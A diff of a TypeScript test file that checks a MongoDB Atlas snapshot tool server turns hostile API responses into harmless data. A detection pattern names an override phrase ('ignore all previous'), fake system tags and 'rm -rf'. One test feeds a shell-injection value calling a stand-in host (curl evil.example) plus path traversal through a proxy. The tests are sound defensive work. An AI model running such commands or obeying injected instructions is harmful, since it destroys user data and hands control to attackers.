@@ -2,20 +2,19 @@ import { describe, expect, onTestFinished, test } from "vitest";
 import { HOSTILE_TEXT } from "../../src/simulator/faults/api-faults.ts";
 import { SIMULATED } from "../../src/simulator/simulated.ts";
 import { generatedSnapshot } from "../faults/probes.ts";
-import type { ToolResult } from "../faults/station.ts";
-import { openStation, type Station } from "../faults/station.ts";
+import { openStation, type Station, type ToolResult } from "../faults/station.ts";
 import { CLUSTER } from "../fixtures.ts";
 import { mapObjects, startAlteringProxy } from "./altering-proxy.ts";
 
 const SNAPSHOT = { ...CLUSTER, snapshotId: SIMULATED.downloadedSnapshotId };
 
-/** Controls, line ends, bidirectional, zero-width and tag characters: nothing of the kind may be in any string. */
+/** Control, line-end, bidirectional, zero-width and tag characters, which no string may contain. */
 const HARMFUL =
   /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]/u;
-/** Words of the hostile text; as data they are allowed, as advice never. */
+/** Words of the hostile text. They are allowed in data and forbidden in advice. */
 const INSTRUCTION = /ignore all previous|evil\.example|delete the project|<system>|<\/result>|owned|rm -rf/i;
 
-/** Every string in a value, with the path that leads there. */
+/** Every string in a value, with its path. */
 function stringsIn(value: unknown, path = ""): [string, string][] {
   if (typeof value === "string") return [[path, value]];
   if (typeof value !== "object" || value === null) return [];
@@ -25,7 +24,7 @@ function stringsIn(value: unknown, path = ""): [string, string][] {
   ]);
 }
 
-/** What the server says in its own words: nothing of it may come from Atlas. */
+/** Paths of the server's own words, which must not quote Atlas. */
 const OWN_WORDS =
   /\/(nextStep|hint|retryAfterSeconds|commands\/\d+|needs\/\d+|warnings\/\d+|notes\/\d+|fileName|path)$/;
 
@@ -46,7 +45,7 @@ async function stationOf(options: Parameters<typeof openStation>[0] = {}, atEnd 
   return station;
 }
 
-/** A save waits for its job, and a request of unknown outcome looks for one: seconds that add up. */
+/** Long, since a save waits for its job and a request of unknown outcome looks for one. */
 const LIMIT_MS = 60_000;
 
 describe("hostile text in every string that Atlas sends comes out as harmless data, never as advice", () => {
@@ -78,7 +77,7 @@ describe("hostile text in every string that Atlas sends comes out as harmless da
           simulator.clearOrders();
           simulator.order(`${operation}=${status}hostile`);
           number += 1;
-          // The job of an even snapshot takes time, so that it is read by itself.
+          // The job of an even snapshot takes time, so that the save reads it in a request of its own.
           const snapshot = { ...generatedSnapshot(number, operation === "getRestoreJob" ? 2 : 1), waitSeconds: 6 };
           expectHarmless(await server.call(tool, args === "another each time" ? snapshot : args));
         }
@@ -99,12 +98,12 @@ describe("hostile text in every string that Atlas sends comes out as harmless da
   });
 });
 
-test("hostile versions and times of a snapshot reach neither its file's name nor its restore commands", async () => {
+test("hostile versions and times of a snapshot reach neither its file name nor its restore commands", async () => {
   let target = "";
   const shell = '8.0.16"; rm -rf ~ #$(curl evil.example)`id`';
-  const proxy = await startAlteringProxy(
+  const baseUrl = await startAlteringProxy(
     () => target,
-    (_, json) =>
+    (json) =>
       mapObjects(json, (object) => ({
         ...object,
         ...("mongoDBVersion" in object ? { mongoDBVersion: shell + HOSTILE_TEXT } : {}),
@@ -114,8 +113,7 @@ test("hostile versions and times of a snapshot reach neither its file's name nor
         ...("instanceName" in object ? { instanceName: `../../${shell}`, projectId: shell } : {}),
       })),
   );
-  onTestFinished(proxy.close);
-  const { server, simulator } = await stationOf({ env: { MONGODB_ATLAS_BASE_URL: proxy.baseUrl } });
+  const { server, simulator } = await stationOf({ env: { MONGODB_ATLAS_BASE_URL: baseUrl } });
   target = simulator.baseUrl;
   const saved = await server.call("save_flex_snapshot", SNAPSHOT);
   expect(saved.structuredContent).toMatchObject({
